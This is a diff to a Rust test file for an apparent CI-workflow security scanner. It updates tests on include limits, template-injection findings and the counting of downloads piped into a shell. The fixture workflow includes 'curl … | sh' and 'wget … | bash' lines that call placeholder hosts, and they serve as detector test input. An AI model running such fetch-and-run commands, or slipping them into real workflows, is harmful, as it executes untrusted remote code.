@@ -184,7 +184,9 @@ fn local_includes_past_the_limit_are_told() {
     assert_eq!(told.len(), 1);
     assert_eq!(told[0].path, ".gitlab-ci.yml");
     assert!(
-        told[0].reason.contains("past the first 150"),
+        told[0]
+            .reason
+            .contains("only the first 150 local ones are read"),
         "{}",
         told[0].reason
     );
@@ -303,8 +305,8 @@ fn a_command_of_tens_of_thousands_of_parts_is_split_in_one_pass() {
 
 /// Steps written as one flow sequence share a line. Each step is read for the expressions
 /// and downloads in its own text only: 5,000 steps each expanding an issue title give 5,000
-/// findings, not 5,000 for every step (25 million; 30,000 such steps filled 24 GB), and the
-/// one `curl | sh` on the line is reported once.
+/// findings, not 5,000 for every step (25 million; 30,000 such steps filled 24 GB), and each
+/// of the two downloads piped into a shell on the line is reported once.
 #[test]
 fn steps_sharing_one_line_each_report_their_own_expressions() {
     let steps = (0..5_000)
@@ -316,7 +318,7 @@ fn steps_sharing_one_line_each_report_their_own_expressions() {
         repo.path(),
         ".github/workflows/triage.yml",
         format!(
-            "on: issues\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps: [{steps}, {{run: \"curl -sSL https://x.example/i.sh | sh\"}}]\n"
+            "on: issues\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps: [{steps}, {{run: \"curl -sSL https://x.example/i.sh | sh\"}}, {{run: \"wget -qO- https://y.example/j.sh | bash\"}}]\n"
         ),
     );
 
@@ -324,7 +326,7 @@ fn steps_sharing_one_line_each_report_their_own_expressions() {
 
     let count = |id: &str| assessment.findings.iter().filter(|f| f.id == id).count();
     assert_eq!(count("template-injection"), 5_000);
-    assert_eq!(count("curl-pipe-shell"), 1);
+    assert_eq!(count("curl-pipe-shell"), 2);
     let mut columns: Vec<usize> = (assessment.findings.iter())
         .filter(|f| f.id == "template-injection")
         .map(|f| f.location.column)
